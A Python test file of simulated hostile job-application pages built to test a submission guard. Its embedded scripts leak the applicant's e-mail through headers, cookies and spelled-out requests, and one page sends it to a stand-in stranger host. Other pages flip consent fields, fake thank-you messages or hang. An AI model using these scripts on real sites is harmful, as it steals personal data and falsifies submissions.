"""Faults of kinds that the guard was not built against, written from reading what it trusts."""

import time

from tests.battery.faults import (
    DONE,
    FIELDS,
    SUBMIT,
    THANKS,
    Fault,
    accepts,
    answers,
    change,
    form,
    shows,
    site_of,
)  # fmt: skip
from tests.battery.honest import NO_DOCUMENT, api, thanks_pages
from tests.battery.site import HostileSite, Visit

SEND = f"fetch('/apply', {{method: 'POST', body: new FormData(f)}}).then(r => r.ok && ({DONE}))"


def first(name: str, script: str, extra: str = "", **routes: object) -> Fault:
    """A page that asks for a token before it sends, and tells it something."""
    page = form(
        SUBMIT + f"const who = val('email'); (async () => {{ try {{ {script} }} catch (e) {{}}; await {SEND} }})() }})",
        extra,
    )
    known = "<p hidden>/token /t?spell= /s/ abcdefghijklmnopqrstuvwxyz@.</p>"
    routes = {"token": api("tok-123456789", False), "t": api("", False), **routes}
    return Fault(f"tells in the rehearsal: {name}", site_of(page.replace("<body>", "<body>" + known), api(), **routes), ("any",), (0, 1))  # fmt: skip


LETTERS = {f"s__{letter}": api("", False) for letter in "abcdefghijklmnopqrstuvwxyz"}
LISTED = "<p hidden>" + " ".join(f"/s/{letter}" for letter in "abcdefghijklmnopqrstuvwxyz") + "</p>"

TOLD_EARLY = (
    first("a name in the query of the token request", "await fetch('/token?' + encodeURIComponent(who) + '=1')"),
    first("the name of a JSON key", "await fetch('/token', {method: 'POST', body: JSON.stringify({[who]: 1})})"),
    first("a name in an urlencoded body", "await fetch('/token', {method: 'POST', body: new URLSearchParams([[who, '1']])})"),
    first("the Accept header", "await fetch('/token', {headers: {accept: 'text/' + who}})"),
    first("the Accept-Language header", "await fetch('/token', {headers: {'accept-language': 'en-' + who}})"),
    first("the Pragma header", "await fetch('/token', {headers: {pragma: who}})"),
    first("the Cache-Control header", "await fetch('/token', {headers: {'cache-control': who}})"),
    first("the If-None-Match header", "await fetch('/token', {headers: {'if-none-match': '\"' + who + '\"'}})"),
    first("the type of an empty body", "await fetch('/token', {method: 'POST', headers: {'content-type': 'text/plain; x=' + who}})"),
    first("the boundary of a multipart body", "await fetch('/token', {method: 'POST', headers: {'content-type': 'multipart/form-data; boundary=' + val('first')}, body: `--${val('first')}\\r\\ncontent-disposition: form-data; name=a\\r\\n\\r\\n1\\r\\n--${val('first')}--\\r\\n`})"),
    first("a header name", "await fetch('/token', {headers: {['x-' + who.replace('@', '-at-')]: '1'}}), await fetch('/token', {headers: {['x-' + val('first')]: '1'}})"),
    first("the referrer", "await fetch('/token', {referrer: '/x?' + who})"),
    first("a cookie's name", "document.cookie = who.replace('@', '') + '=1'; document.cookie = val('first') + '=1'; await fetch('/token')"),
    first("a cookie's value", "document.cookie = 'who=' + who; await fetch('/token')"),
    first("letter by letter in short values", "for (const c of who.slice(0, 12)) await fetch('/t?spell=' + c)"),
    first("three letters at a time", "for (const c of who.slice(0, 12).match(/.{3}/g)) await fetch('/t?spell=' + c)"),
    first("letter by letter in known paths", "for (const c of who.slice(0, 8)) await fetch('/s/' + c)", LISTED, **LETTERS),
    first("the user in the address", "await fetch('http://' + val('first') + ':x@' + location.host + '/token')"),
    first("the method", "await fetch('/token', {method: val('first')})"),
    first("the address as a prefix of the path", "await fetch('/token/' + who)"),
    first("a HEAD request's query", "await fetch('/token?a=' + who, {method: 'HEAD'})"),
    first("a frame with the known path", "const i = document.createElement('iframe'); i.src = '/token?' + who + '=1'; document.body.append(i); await new Promise(r => setTimeout(r, 300))"),
    first("a GET form's field name", "const g = document.createElement('form'); g.action = '/token'; g.target = 'x'; g.innerHTML = '<input name=' + who + ' value=1>'; document.body.append(g); g.submit()"),
    first("a websocket protocol", "new WebSocket('ws://' + location.host + '/token', val('first'))"),
)  # fmt: skip

TYPEAHEAD = """<label>City <input name=city role=combobox aria-autocomplete=list aria-controls=places required autocomplete=off></label><ul id=places role=listbox></ul>"""


def _looks_up(ask: str) -> str:
    return (
        "const c = f.elements.city, l = document.getElementById('places'); c.addEventListener('input', () => { const q = c.value; "
        + ask.replace("ASK", "fetch('/places?q=' + encodeURIComponent(q))")
        + ".then(r => r.json()).then(a => { l.innerHTML = ''; for (const p of a) { const o = document.createElement('li'); o.setAttribute('role', 'option'); o.textContent = p; o.onclick = () => { c.value = p; l.innerHTML = '' }; l.append(o) } }).catch(() => 0) });"
    )


def looks_up(name: str, ask: str, ends: tuple[str, ...] = ("any",), **routes: object) -> Fault:
    page = form(_looks_up(ask), fields=FIELDS + TYPEAHEAD).replace("<body>", "<body><p hidden>/places</p>")
    routes = {"places": api('["Springfield"]', False), **routes}
    return Fault(f"tells in a look-up: {name}" if ends == ("any",) else name, site_of(page, **routes), ends, (0, 1) if ends == ("any",) else (1,))  # fmt: skip


LOOK_UPS = (
    looks_up("a list of places that asks its site", "ASK", ("confirmed",)),
    looks_up("the e-mail beside the place", "fetch('/places?q=' + q + '&u=' + val('email'))"),
    looks_up("the e-mail as a name", "fetch('/places?q=' + q + '&' + val('email') + '=1')"),
    looks_up("the e-mail in the Accept header", "fetch('/places?q=' + q, {headers: {accept: 'text/' + val('email')}})"),
    looks_up("the first name in threes", "(val('first').match(/.{1,3}/g) || []).forEach(c => fetch('/t?spell=' + c.toLowerCase())), ASK", t=api("", False)),
    looks_up("the e-mail to a stranger", "fetch('OTHER/places?q=' + q + '&u=' + val('email'), {mode: 'no-cors'}), ASK"),
    looks_up("the whole form by POST", "fetch('/places', {method: 'POST', body: new FormData(f)}), ASK"),
    looks_up("the e-mail in the path", "fetch('/places/' + val('email')), ASK"),
)  # fmt: skip


def always(name: str, script: str, extra: str = "") -> Fault:
    """The page does it from the start, in the rehearsal as at the sending: what is signed must be what is shown."""
    return Fault(f"always: {name}", site_of(form(script, extra)), ("any",), (0, 1))


def on_data(change: str) -> str:
    return f"f.addEventListener('formdata', e => {{ const d = e.formData; {change} }})"


ALWAYS = (
    always("a choice flipped on the wire", on_data("d.set('visa', 'y1')")),
    always("first and last name swapped", on_data("const a = d.get('first'); d.set('first', d.get('last')); d.set('last', a)")),
    always("another e-mail on the wire", on_data("d.set('email', 'else@example.org')")),
    always("another document", on_data("d.set('cv', new File(['x'], 'x.pdf'))")),
    always("without the document", on_data("d.delete('cv')")),
    always("a note added", on_data("d.append('note', 'I have ten years of experience')")),
    always("a second value of one name", on_data("d.append('visa', 'y1')")),
    always("a choice flipped at mousedown", "f.querySelector('button').addEventListener('mousedown', () => { f.elements.visa.value = 'y1' })"),
    always("the e-mail replaced on submit", "f.addEventListener('submit', () => { f.elements.email.value = 'else@example.org' })"),
    always("a value trimmed of its letters", on_data("d.set('first', 'A')")),
    always("a choice flipped in JSON", SUBMIT + "fetch('/apply', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify({first: val('first'), last: val('last'), email: val('email'), visa: 'y1'})}).then(r => r.ok && (" + DONE + ")) })"),
    always("consent given that was refused", on_data("d.set('marketing', 'yes')"), "<input type=hidden name=marketing value=no>"),
)  # fmt: skip

BOUNDARY = "const b = 'x7x7x7x7'; const m = (pre, type) => `${pre}--${b}\\r\\ncontent-disposition: form-data; name=first\\r\\n\\r\\n${val('first')}\\r\\n--${b}\\r\\ncontent-disposition: form-data; name=last\\r\\n\\r\\n${val('last')}\\r\\n--${b}\\r\\ncontent-disposition: form-data; name=email${type}\\r\\n\\r\\n${val('email')}\\r\\n--${b}\\r\\ncontent-disposition: form-data; name=visa\\r\\n\\r\\n${val('visa')}\\r\\n--${b}--\\r\\n`;"


def crafted(name: str, before: str, after: str) -> Fault:
    """The page writes its own multipart body; it is another one after the approval."""

    def build(site: HostileSite) -> None:
        def page(visit: Visit) -> None:
            body = after if "/approved" in visit.site.visits else before
            visit.answer(form(fields=NO_DOCUMENT, script=SUBMIT + BOUNDARY + f"fetch('/apply', {{method: 'POST', headers: {{'content-type': 'multipart/form-data; boundary=' + b}}, body: {body}}}).then(r => r.ok && ({DONE})) }})"))  # fmt: skip

        site.routes = {"/jobs/1/apply": page, "/apply": api(), "/approved": shows("")}

    return Fault(f"changes: {name}", build, ("stale", "ambiguous"), (0,))


def sends(script_before: str, script_after: str, name: str) -> Fault:
    def build(site: HostileSite) -> None:
        def page(visit: Visit) -> None:
            visit.answer(form(SUBMIT + (script_after if "/approved" in visit.site.visits else script_before) + " })"))

        site.routes = {"/jobs/1/apply": page, "/apply": api(), "/approved": shows("")}

    return Fault(f"changes: {name}", build, ("stale", "ambiguous"), (0,))


def _with_header(value: str) -> str:
    return f"fetch('/apply', {{method: 'POST', headers: {value}, body: new FormData(f)}}).then(r => r.ok && ({DONE}))"


def _varying(value: str) -> str:
    return f"const d = new FormData(f); d.append('state', {value}); fetch('/apply', {{method: 'POST', body: d}}).then(r => r.ok && ({DONE}))"


RANDOM = "crypto.randomUUID().slice(0, 13)"


def differs(name: str, key: str, *values: str) -> Fault:
    """Each time the page is loaded, a hidden control has the next of these values; a second rehearsal shows that."""

    def build(site: HostileSite) -> None:
        left = iter(values)

        def page(visit: Visit) -> None:
            value = next(left, values[-1])
            visit.answer(form(SUBMIT + _varying(RANDOM) + " })", f"<input type=hidden name={key} value={value}>"))

        site.routes = {"/jobs/1/apply": page, "/apply": api()}

    return Fault(f"changes: {name}", build, ("stale", "ambiguous"), (0,))


CHANGES_UNSEEN = (
    differs("a consent as a number that differs each time", "marketing_consent", "0", "1", "1"),
    differs("a consent in words that differs each time", "talent_pool", "no", "yes", "yes"),
    differs("a statement under a short name that differs each time", "x7", "false", "true", "true"),
    differs("a wish for pay that differs each time", "expected_salary", "50000", "60000", "40000"),
    differs("a token that becomes a yes", "t9", "a8f3k2", "b7d9e1", "accept"),
    crafted("words before the first part", "m('', '')", "m('marketing=yes\\r\\n', '')"),
    crafted("a parameter of a part's type", "m('', '')", "m('', '\\r\\ncontent-type: text/plain; marketing=yes')"),
    crafted("a header in a part", "m('', '')", "m('', '\\r\\nx-marketing: yes')"),
    sends(_with_header("{accept: 'application/json'}"), _with_header("{accept: 'application/json; marketing=yes'}"), "a word in the Accept header"),
    sends(_with_header("{}"), _with_header("{pragma: 'marketing=yes'}"), "a word in the Pragma header"),
    sends(_varying(f"{RANDOM} + ':no'"), _varying(f"{RANDOM} + ':yes'"), "a consent inside a part that varies"),
    sends(_varying(f"'job-4711-' + {RANDOM}"), _varying(f"'job-9999-' + {RANDOM}"), "the vacancy inside a part that varies"),
    sends(_varying(RANDOM), _varying("'I was convicted of theft'"), "a sentence in a part that varies"),
    sends(_varying(RANDOM), _varying("btoa(val('visa') + '=y1')"), "an encoded answer in a part that varies"),
    change("a base address elsewhere", "const b = document.createElement('base'); b.href = 'OTHER/'; document.head.append(b)"),
    change("another form's button", "const g = document.createElement('form'); g.method = 'post'; g.action = '/apply'; g.id = 'g'; g.innerHTML = '<input name=other value=1>'; document.body.append(g); f.querySelector('button').setAttribute('form', 'g')"),
    change("the file's name", "f.addEventListener('formdata', e => { const c = e.formData.get('cv'); e.formData.set('cv', new File([c], 'other.pdf', {type: c.type})) })"),
    change("the order of the fields", "f.append(f.querySelector('label'))"),
    change("a letter that looks the same", "f.addEventListener('formdata', e => e.formData.set('email', 'anаbel@example.com'))"),
    change("a space at the end", "f.addEventListener('formdata', e => e.formData.set('first', 'Anabel '))"),
    change("an early click on something else", "addEventListener('click', e => { if (e.target.tagName == 'BUTTON') { e.preventDefault(); const d = new FormData(f); d.set('visa', 'y1'); fetch('/apply', {method: 'POST', body: d}) } }, true)"),
    change("by PUT", "f.addEventListener('submit', e => { e.preventDefault(); fetch('/apply', {method: 'PUT', body: new FormData(f)}) })"),
    change("as JSON", "f.addEventListener('submit', e => { e.preventDefault(); fetch('/apply', {method: 'POST', headers: {'content-type': 'application/json'}, body: JSON.stringify(Object.fromEntries(new FormData(f)))}) })"),
    Fault("changes: one more request before, refused", lambda site: _one_more(site), ("any",), (0, 1)),
)  # fmt: skip


def _one_more(site: HostileSite) -> None:
    """The other request must not arrive; what was approved may."""
    change("", "f.addEventListener('submit', () => navigator.sendBeacon('/before', 'marketing=yes'))").build(site)
    site.routes["/before"] = answers("")


def says(name: str, body: str, status: int = 200, ends: tuple[str, ...] = ("ambiguous", "rejected")) -> Fault:
    """Nothing was recorded: whatever the page says, there is no receipt."""
    return Fault(f"lies: {name}", site_of(form(), apply=answers(body, status, is_recorded=False)), ends, (0,))


T = "<h1>Thank you for applying</h1>"
LIES = (
    says("thanks, and below that it could not be saved", T + "<p>Unfortunately your application could not be saved.</p>"),
    says("thanks, and an alert that the session expired", T + "<p role=alert>Your session has expired. Please sign in and submit again.</p>"),
    says("thanks, one step left", T + "<p>One more step: confirm your e-mail address to complete your application.</p>"),
    says("saved as a draft", "<h1>Thank you for applying</h1><h2>Your application was saved as a draft</h2>"),
    says("a waiting room", "<h1>You are in line</h1><p role=status>Thank you for your application to enter. Your place: 4,711</p>"),
    says("invisible thanks over an error", "<h1 style='position:absolute;left:-9999px'>Thank you for applying</h1><h2>Server error</h2>"),
    says("tiny thanks over an error", "<h1 style='font-size:0'>Thank you for applying</h1><h2>Server error</h2>"),
    says("white thanks over an error", "<h1 style='color:#fff;background:#fff'>Thank you for applying</h1><h2>Something went wrong</h2>"),
    says("thanks behind a dialog", T + "<dialog open>Your application was not sent. Reload the page.</dialog>"),
    says("the position is filled", "<h1>This position has been filled</h1><h2>Thank you for your application interest in Acme</h2>"),
    says("a sign-in page with thanks", "<h1>Sign in</h1><p role=status>Thank you for applying with Acme. Sign in to send your application.</p><form><input type=password name=p><button>Sign in</button></form>"),
    says("a captcha with thanks", "<h1>Thank you for applying</h1><p>Please prove that you are human to continue.</p><div class=g-recaptcha data-sitekey=x></div>"),
    says("thanks for subscribing", "<h1>Careers</h1><div role=dialog>Thank you for submitting your e-mail to our newsletter</div>"),
    says("thanks in German, not saved", "<h1>Vielen Dank für Ihre Bewerbung</h1><p>Ihre Bewerbung konnte leider nicht gespeichert werden.</p>"),
    says("thanks in Russian, not saved", "<h1>Спасибо за отклик</h1><p>К сожалению, заявка не сохранена.</p>"),
    says("thanks in French, not saved", "<h1>Merci pour votre candidature</h1><p>Elle n'a pas pu être enregistrée.</p>"),
    says("thanks in Spanish, not saved", "<h1>Gracias por postular</h1><p>No se ha podido guardar tu solicitud.</p>"),
    says("thanks as a question", "<h1>Application submitted? Not yet!</h1>"),
    says("a sample of the mail to come", "<h1>Preview</h1><blockquote><h2>Your application has been received</h2></blockquote><p>This is what you will get. <button>Submit application</button></p>"),
    says("thanks with 404", T, 404),
    says("thanks with 429", T, 429),
    says("thanks with 409", T, 409),
    says("thanks with 401", T, 401),
    says("a frame of a stranger says thanks", "<h1>Hold on</h1><iframe srcdoc='<h1>Thank you for applying</h1>'></iframe>"),
    Fault("lies: thanks shown before the answer, which is a reset", site_of(form(SUBMIT + f"fetch('/apply', {{method: 'POST', body: new FormData(f)}}); {DONE} }})"), apply=Visit.reset), ("ambiguous",), (0,)),
    Fault("lies: thanks shown before the answer, which is 500", site_of(form(SUBMIT + f"fetch('/apply', {{method: 'POST', body: new FormData(f)}}); {DONE} }})"), apply=answers("no", 500, is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: thanks for an answer that says no", site_of(form(SUBMIT + f"fetch('/apply', {{method: 'POST', body: new FormData(f)}}).then(() => {{ {DONE} }}) }})"), apply=answers('{"success": false, "error": "closed"}', is_recorded=False)), ("ambiguous", "rejected"), (0,)),
    *(says(name, page) for stem in ("hostile_kinds_seen", "hostile_kinds_unseen") for name, page in thanks_pages(stem).items()),
    Fault("lies: a redirect to thanks with 500", site_of(form(), apply=lambda visit: visit.redirect("/sorry"), sorry=answers(T, 500, is_recorded=False)), ("ambiguous",), (0,)),
    Fault("lies: sign-in after the redirect", site_of(form(), apply=lambda visit: visit.redirect("/thanks"), thanks="<h1>Sign in to Acme</h1><form><input type=password><button>Sign in</button></form>"), ("ambiguous",), (0,)),
)  # fmt: skip


def _drips(visit: Visit) -> None:
    visit.record()
    visit.raw(b"HTTP/1.1 200 OK\r\nX-A: ", *([b"a"] * 200), pause=1.0)


def _never_ends(visit: Visit) -> None:
    visit.record()
    head = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nConnection: close\r\n\r\n<h1>Thank you for applying</h1>"
    until = time.monotonic() + 200
    visit.handler.wfile.write(head)
    while time.monotonic() < until:
        visit.handler.wfile.write(b"<p>and thank you " * 2000)
        time.sleep(0.05)


def _cut(visit: Visit) -> None:
    visit.record()
    visit.raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 9999\r\n\r\n" + THANKS.encode())


def _early_hints(visit: Visit) -> None:
    visit.record()
    body = THANKS.encode()
    visit.raw(b"HTTP/1.1 103 Early Hints\r\nLink: </a.css>; rel=preload\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: %d\r\n\r\n" % len(body) + body)  # fmt: skip


def _garbage(visit: Visit) -> None:
    visit.record()
    visit.raw(b"\x00\xff\xfe not http at all\r\n\r\n")


def breaks(name: str, apply: object, ends: tuple[str, ...] = ("ambiguous",), sent: tuple[int, ...] = (1,), script: str = "", **routes: object) -> Fault:  # fmt: skip
    return Fault(f"breaks: {name}", site_of(form(script), apply, **routes), ends, sent)


ANY = ("any",)
HUNG = "<h1>Thank you for applying</h1><script>while (true) {}</script>"
BREAKS_UNSEEN = (
    breaks("a header that drips", _drips),
    breaks("an answer that never ends", _never_ends),
    breaks("an answer cut short", _cut, ANY),
    breaks("early hints before the answer", _early_hints, ("confirmed", "ambiguous")),
    breaks("garbage instead of HTTP", _garbage),
    breaks("408 after recording", answers("", 408)),
    breaks("425 after recording", answers("", 425)),
    breaks("401 after recording", answers("<h1>Sign in</h1>", 401)),
    breaks("503, to be repeated at once", lambda visit: (visit.record(), visit.answer("", 503, Retry_After="0"))),
    breaks("204 and nothing else", answers("", 204)),
    breaks("the thank-you page hangs in a script", answers(HUNG), ("confirmed", "ambiguous")),
    breaks("the thank-you page asks in a dialog", answers(T + "<script>alert('Thanks'); confirm('Again?') && fetch('/apply', {method: 'POST'})</script>"), ("confirmed", "ambiguous")),
    breaks("the thank-you page sends again by itself", answers(T + "<form method=post action=/apply><input name=first value=Anabel></form><script>document.forms[0].submit(); fetch('/apply', {method: 'POST', body: 'again'}); navigator.sendBeacon('/apply', 'again')</script>"), ("confirmed", "ambiguous")),
    breaks("the thank-you page opens fifty windows", answers(T + "<script>for (let i = 0; i < 50; i++) open('/x?' + i)</script>"), ("confirmed", "ambiguous")),
    breaks("the thank-you page closes itself", answers(T + "<script>window.close()</script>"), ("confirmed", "ambiguous")),
    breaks("the thank-you page reloads for ever", answers(T + "<script>setTimeout(() => location.reload(), 50)</script>"), ("confirmed", "ambiguous")),
    breaks("the thank-you page is 30 MB", answers(T + "<p>" + "thanks " * 4_000_000), ("confirmed", "ambiguous")),
    breaks("hangs in a script at the click", accepts, ANY, (0, 1), "f.addEventListener('submit', () => { if (performance.now() > 0) while (true) {} })"),
    breaks("hangs in a script while it is filled", accepts, ANY, (0, 1), "f.addEventListener('input', () => { while (true) {} })"),
    breaks("closes itself at the click", accepts, ANY, (0, 1), "f.addEventListener('submit', () => setTimeout(() => window.close(), 0))"),
    breaks("asks in a dialog before it sends", accepts, ANY, (0, 1), "f.addEventListener('submit', e => { if (!confirm('Really?')) e.preventDefault() })"),
    breaks("asks before it is left", accepts, ANY, (0, 1), "addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'x' })"),
    breaks("builds the form anew all the time", accepts, ANY, (0, 1), "setInterval(() => { const v = [...f.elements].map(e => e.type == 'file' ? null : [e.value, e.checked]); f.querySelectorAll('label').forEach(l => l.replaceWith(l.cloneNode(true))) }, 120)"),
    breaks("the page sends again after a reset", lambda visit: (visit.record(), visit.reset()), ("ambiguous",), (1,), SUBMIT + f"const go = n => fetch('/apply', {{method: 'POST', body: new FormData(f)}}).then(() => {{ {DONE} }}).catch(() => n && setTimeout(() => go(n - 1), 200)); go(5) }})"),
    breaks("303 to the application's own address", lambda visit: (visit.record(), visit.redirect("/apply" if visit.method == "POST" else "/thanks")), ANY, (1, 2)),
)  # fmt: skip


def _get_again(name: str, again: str) -> Fault:
    """A form by GET: its answer is a page that loads its own address once more."""

    def build(site: HostileSite) -> None:
        fields = FIELDS.replace("<label>Resume <input name=cv type=file required></label>", "")
        page = form(attributes='method=get action="/apply"', fields=fields)
        site.routes = {"/jobs/1/apply": shows(page), "/apply": answers(T + again)}

    return Fault(f"breaks: {name}", build, ("confirmed", "ambiguous"), (1,))


BREAKS_GET = (
    _get_again("a GET form whose answer reloads itself", "<script>if (!sessionStorage.r) { sessionStorage.r = 1; location.reload() }</script>"),
    _get_again("a GET form whose answer refreshes itself", "<meta http-equiv=refresh content=1>"),
    _get_again("a GET form whose answer loads its own address as a picture", "<script>new Image().src = location.href; fetch(location.href)</script>"),
)  # fmt: skip

AFTERWARDS = (
    Fault("tells afterwards: a consent by GET", site_of(form(), apply=answers(T + "<img src='/consent?marketing=yes'>"), consent=answers("")), ("confirmed", "ambiguous"), (1,)),
    Fault("tells afterwards: the values to a stranger", site_of(form(), apply=answers(T + "<script>new Image().src = 'OTHER/x?anabel@example.com'; fetch('OTHER/y', {mode: 'no-cors', method: 'POST', body: 'Anabel'})</script>".replace("OTHER", "http://stranger.example"))), ("confirmed", "ambiguous"), (1,)),
)  # fmt: skip


def opens(name: str, page: object) -> Fault:
    """A posting that cannot be applied for: nothing is sent."""

    def build(site: HostileSite) -> None:
        site.routes = {"/jobs/1/apply": page, "/apply": accepts, "/thanks": shows(THANKS)}

    return Fault(f"opens: {name}", build, ("not_prepared",), (0,))


OPENS = (
    opens("closed", shows("<h1>This job is no longer available</h1>")),
    opens("already applied", shows("<h1>You have already applied for this job</h1>")),
    opens("a sign-in page", shows("<h1>Sign in</h1><form><input name=user><input type=password name=pw><button>Sign in</button></form>")),
    opens("a captcha instead of the form", shows("<title>Just a moment...</title><h1>Verify you are human</h1><div class=cf-turnstile data-sitekey=x></div>")),
    opens("503", answers("busy", 503, is_recorded=False)),
    opens("429", answers("slow down", 429, is_recorded=False)),
    opens("a redirect loop", lambda visit: visit.redirect("/jobs/1/apply")),
    opens("a page that never ends", lambda visit: visit.raw(b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Job</h1>", *([b"<p>more"] * 2400), pause=0.05)),
    opens("a header that drips", lambda visit: visit.raw(b"HTTP/1.1 200 OK\r\nX-A: ", *([b"a"] * 150), pause=1.0)),
    opens("hung in a script", shows("<h1>Job</h1><script>while (true) {}</script>")),
    opens("a download", lambda visit: visit.answer(b"MZ", 200, "application/octet-stream", Content_Disposition="attachment; filename=x.exe")),
    opens("a redirect into the private network", lambda visit: visit.redirect("http://10.0.0.1/apply")),
)  # fmt: skip

UNSEEN = (*TOLD_EARLY, *LOOK_UPS, *ALWAYS, *CHANGES_UNSEEN, *LIES, *BREAKS_UNSEEN, *BREAKS_GET, *AFTERWARDS, *OPENS)
